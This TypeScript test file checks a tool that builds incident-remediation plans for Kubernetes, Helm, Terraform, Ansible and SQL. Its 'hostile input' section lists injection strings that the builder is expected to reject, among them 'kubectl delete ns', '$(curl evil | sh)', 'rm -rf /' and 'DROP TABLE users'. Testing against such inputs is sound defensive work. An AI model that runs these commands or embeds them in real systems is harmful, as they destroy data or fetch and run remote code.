import { parse as hclParse } from '@cdktf/hcl2json';
import { stringify } from 'yaml';
import { UnsafeValueError } from './escape';
import { buildPlan, NoStrategyError } from './plan';
import { preflight } from './preflight';
import { StrategyRegistry } from './strategies';
import type {
  FixStrategy,
  PlanEntity,
  PlanHypothesis,
  PlanMode,
  PlanRequest,
} from './types';

const NOW = Date.parse('2026-12-01T10:00:00Z');

function live(name = 'checkout', ns = 'shop') {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name, namespace: ns, resourceVersion: '10' },
    spec: {
      replicas: 4,
      selector: { matchLabels: { app: name } },
      template: {
        metadata: { labels: { app: name } },
        spec: {
          containers: [
            {
              name,
              image: `r/${name}:1.0.0`,
              resources: { limits: { memory: '512Mi', cpu: '1' } },
            },
          ],
        },
      },
    },
  };
}

function entity(over: Partial<PlanEntity> = {}): PlanEntity {
  return {
    ref: 'component:default/checkout',
    environment: 'production',
    workload: {
      kind: 'Deployment',
      name: 'checkout',
      namespace: 'shop',
      container: 'checkout',
      replicas: 4,
      resources: { limits: { memory: '512Mi', cpu: '1' } },
      live: live(),
    },
    helm: {
      release: 'checkout',
      chart: 'shop/checkout',
      namespace: 'shop',
      revision: 12,
    },
    terraform: {
      module: 'checkout',
      source: 'app.terraform.io/acme/svc/kubernetes',
    },
    ansible: { hosts: 'checkout_prod', service: 'checkout' },
    database: { engine: 'postgresql', name: 'orders' },
    runtime: 'java',
    ...over,
  };
}

function request(
  h: PlanHypothesis,
  mode: PlanMode,
  e = entity(),
  strategy?: string,
): PlanRequest {
  return {
    incident: { id: 'inc-1', entityRef: e.ref, hypotheses: [h] },
    entity: e,
    mode,
    now: NOW,
    strategy,
  };
}

async function preflightPlan(req: PlanRequest) {
  const plan = buildPlan(req);
  const result = await preflight({
    mode: plan.mode,
    artifacts: plan.artifacts,
    plan,
    live: req.entity.workload?.live
      ? [{ path: 'live.yaml', content: stringify(req.entity.workload.live) }]
      : [],
    context: {
      entity: req.entity.ref,
      environment: 'production',
      namespace: 'shop',
      author: 'user:default/copilot',
      approvedBy: 'user:default/lead',
      errorBudgetRemaining: 0.5,
    },
  });
  return { plan, result };
}

describe('buildPlan', () => {
  it.each([
    ['bad_deploy', { previousVersion: '1.7.9' }, 'rollout-undo'],
    ['bad_deploy', { rolloutInProgress: true }, 'rollout-pause'],
    [
      'config_change',
      { configKey: 'http.timeout_ms', previousValue: '800' },
      'config-revert',
    ],
    ['flag_flip', { flag: 'new_tax_engine' }, 'flag-off'],
    ['traffic_surge', {}, 'scale-out'],
    ['memory_leak', {}, 'jvm-flags'],
    ['dependency_failure', { poolSize: 10 }, 'pool-size'],
    [
      'resource_saturation',
      { quota: 'compute', quotaResource: 'limits.memory', quotaValue: '64Gi' },
      'quota-raise',
    ],
    ['network', {}, 'rollout-restart'],
  ] as const)(
    'answers %s with a fitting k8s strategy',
    (kind, details, strategy) => {
      const plan = buildPlan(
        request({ kind, confidence: 0.8, details }, 'k8s'),
      );
      expect(plan.strategy).toBe(strategy);
      expect(plan.steps.length).toBeGreaterThan(0);
      expect(
        plan.postChecks.every(c => c.deadline > '2026-12-01T10:00:00.000Z'),
      ).toBe(true);
      expect(plan.rollback.gates.map(g => g.trafficPercent)).toEqual([
        10, 50, 100,
      ]);
      expect(plan.risk.score).toBeGreaterThan(0);
      expect(plan.risk.reasons.length).toBeGreaterThan(0);
    },
  );

  it('picks limit bumps for a non-JVM memory leak and answers slow queries with an index in sql mode', () => {
    expect(
      buildPlan(
        request(
          { kind: 'memory_leak', confidence: 0.9 },
          'k8s',
          entity({ runtime: 'go' }),
        ),
      ).strategy,
    ).toBe('limit-bump');
    const sql = buildPlan(
      request(
        {
          kind: 'slow_query',
          confidence: 0.9,
          details: { table: 'orders', columns: 'customer_id, created_at' },
        },
        'sql',
      ),
    );
    expect(sql.strategy).toBe('db-index');
    const up = sql.artifacts.find(
      a => a.path.endsWith('.sql') && !a.path.endsWith('.down.sql'),
    )!;
    expect(up.content).toContain(
      'CREATE INDEX CONCURRENTLY IF NOT EXISTS "idx_orders_customer_id_created_at" ON "orders" ("customer_id", "created_at")',
    );
    expect(
      sql.artifacts.some(a => a.path === up.path.replace('.sql', '.down.sql')),
    ).toBe(true);
    expect(sql.rollback.artifacts).toEqual([
      up.path.replace('.sql', '.down.sql'),
    ]);
  });

  it('records the drift base and stamps it into patches', () => {
    const plan = buildPlan(
      request(
        { kind: 'memory_leak', confidence: 0.9 },
        'k8s',
        entity({ runtime: 'go' }),
      ),
    );
    expect(Object.keys(plan.base!.objects)).toEqual([
      'deployment/shop/checkout',
    ]);
    const patch = plan.artifacts.find(a => a.path.startsWith('patch-'))!;
    expect(patch.content).toContain(
      plan.base!.objects['deployment/shop/checkout'],
    );
  });

  it('is deterministic for the same request', () => {
    const r = request({ kind: 'traffic_surge', confidence: 0.7 }, 'helm');
    expect(buildPlan(r)).toEqual(buildPlan(r));
  });

  it('throws when nothing fits', () => {
    expect(() =>
      buildPlan(request({ kind: 'slow_query', confidence: 0.9 }, 'tf')),
    ).toThrow(NoStrategyError);
    expect(() =>
      buildPlan(
        request(
          { kind: 'traffic_surge', confidence: 0.9 },
          'k8s',
          entity(),
          'db-index',
        ),
      ),
    ).toThrow(NoStrategyError);
  });

  it('takes strategies registered by modules', () => {
    const registry = StrategyRegistry.withBuiltins();
    const custom: FixStrategy = {
      id: 'drain-node',
      title: 'Restart away from a bad node',
      kinds: ['network'],
      modes: ['k8s'],
      fit: () => 0.99,
      propose: () => ({
        summary: 'restart',
        intents: [{ type: 'restart' }],
        rationale: 'bad node',
        baseRisk: 0.1,
        revert: false,
      }),
    };
    registry.register(custom);
    expect(() => registry.register(custom)).toThrow(/already registered/);
    expect(
      buildPlan(request({ kind: 'network', confidence: 0.6 }, 'k8s'), registry)
        .strategy,
    ).toBe('drain-node');
  });
});

describe('generated plans', () => {
  const cases: Array<[PlanMode, PlanHypothesis]> = [
    ['k8s', { kind: 'memory_leak', confidence: 0.9 }],
    [
      'k8s',
      {
        kind: 'config_change',
        confidence: 0.9,
        details: { configKey: 'pool.max', previousValue: '20' },
      },
    ],
    ['k8s', { kind: 'traffic_surge', confidence: 0.9 }],
    ['helm', { kind: 'bad_deploy', confidence: 0.9 }],
    [
      'helm',
      { kind: 'flag_flip', confidence: 0.9, details: { flag: 'beta_ui' } },
    ],
    ['helm', { kind: 'memory_leak', confidence: 0.9 }],
    ['tf', { kind: 'traffic_surge', confidence: 0.9 }],
    [
      'tf',
      {
        kind: 'bad_deploy',
        confidence: 0.9,
        details: { previousVersion: '1.7.9' },
      },
    ],
    ['ansible', { kind: 'network', confidence: 0.9 }],
    [
      'ansible',
      {
        kind: 'config_change',
        confidence: 0.9,
        details: { configKey: 'HTTP_TIMEOUT_MS', previousValue: '800' },
      },
    ],
    [
      'sql',
      {
        kind: 'slow_query',
        confidence: 0.9,
        details: { table: 'orders', columns: 'status' },
      },
    ],
  ];

  it.each(cases)('%s plan for %o passes its own preflight', async (mode, h) => {
    const { plan, result } = await preflightPlan(request(h, mode));
    expect(result.findings.filter(f => f.severity === 'block')).toEqual([]);
    const paths = plan.artifacts.map(a => a.path);
    expect(
      plan.steps.filter(s => s.artifact && !paths.includes(s.artifact)),
    ).toEqual([]);
  });

  it('writes a MySQL online index migration that passes preflight in production', async () => {
    const req = request(
      {
        kind: 'slow_query',
        confidence: 0.9,
        details: { table: 'products', columns: 'sku' },
      },
      'sql',
      entity({ database: { engine: 'mysql', name: 'catalog' } }),
    );
    const { plan, result } = await preflightPlan(req);
    expect(plan.artifacts[0].content).toContain('ALGORITHM=INPLACE LOCK=NONE');
    expect(result.verdict).toBe('pass');
  });

  it('writes Terraform that parses', async () => {
    const plan = buildPlan(
      request(
        {
          kind: 'config_change',
          confidence: 0.9,
          details: {
            configKey: 'feature.x',
            previousValue: 'a "quoted" value',
          },
        },
        'tf',
      ),
    );
    const tf = plan.artifacts.find(a => a.path === 'main.tf')!;
    const json = (await hclParse('main.tf', tf.content)) as {
      module: Record<string, Array<{ config: Record<string, string> }>>;
    };
    expect(json.module.checkout[0].config['feature.x']).toBe(
      'a "quoted" value',
    );
  });

  it('is blocked by preflight when the live object moved after planning (drift)', async () => {
    const req = request(
      { kind: 'memory_leak', confidence: 0.9 },
      'k8s',
      entity({ runtime: 'go' }),
    );
    const plan = buildPlan(req);
    const moved = live();
    moved.spec.replicas = 9;
    const result = await preflight({
      mode: 'k8s',
      artifacts: plan.artifacts,
      plan,
      live: [{ path: 'live.yaml', content: stringify(moved) }],
      context: {
        entity: req.entity.ref,
        environment: 'production',
        namespace: 'shop',
        author: 'user:default/a',
        approvedBy: 'user:default/b',
      },
    });
    expect(result.verdict).toBe('block');
    expect(result.findings.map(f => f.code)).toContain('DRIFT_BASE_HASH');
  });
});

describe('hostile input', () => {
  const evil = 'checkout; kubectl delete ns shop #';

  it.each([
    [
      'workload name',
      entity({
        workload: {
          kind: 'Deployment',
          name: evil,
          namespace: 'shop',
          replicas: 2,
        },
      }),
    ],
    [
      'namespace',
      entity({
        workload: {
          kind: 'Deployment',
          name: 'checkout',
          namespace: '$(id)',
          replicas: 2,
        },
      }),
    ],
  ])('refuses a hostile %s instead of writing it into a script', (_, e) => {
    expect(() =>
      buildPlan(request({ kind: 'network', confidence: 0.9 }, 'k8s', e)),
    ).toThrow(UnsafeValueError);
  });

  it('refuses hostile values that came from logs or labels', () => {
    for (const details of [
      { configKey: 'timeout', previousValue: '$(curl evil | sh)' },
      { configKey: 'a"; drop', previousValue: '1' },
      { configKey: 'x', previousValue: '{{ lookup("pipe","id") }}' },
    ])
      for (const mode of ['k8s', 'helm', 'tf', 'ansible'] as PlanMode[])
        expect(() =>
          buildPlan(
            request({ kind: 'config_change', confidence: 0.9, details }, mode),
          ),
        ).toThrow(UnsafeValueError);
    expect(() =>
      buildPlan(
        request(
          {
            kind: 'flag_flip',
            confidence: 0.9,
            details: { flag: "x' || rm -rf /" },
          },
          'k8s',
        ),
      ),
    ).toThrow(UnsafeValueError);
    expect(() =>
      buildPlan(
        request(
          {
            kind: 'slow_query',
            confidence: 0.9,
            details: { table: 'orders; DROP TABLE users', columns: 'a' },
          },
          'sql',
        ),
      ),
    ).toThrow(UnsafeValueError);
    expect(() =>
      buildPlan(
        request(
          {
            kind: 'bad_deploy',
            confidence: 0.9,
            details: { previousVersion: '1.0"; }' },
          },
          'tf',
        ),
      ),
    ).toThrow(UnsafeValueError);
  });

  it('refuses to target every Ansible host', () => {
    expect(() =>
      buildPlan(
        request(
          { kind: 'network', confidence: 0.9 },
          'ansible',
          entity({ ansible: { hosts: 'all', service: 'x' } }),
        ),
      ),
    ).toThrow(/every host/);
  });
});
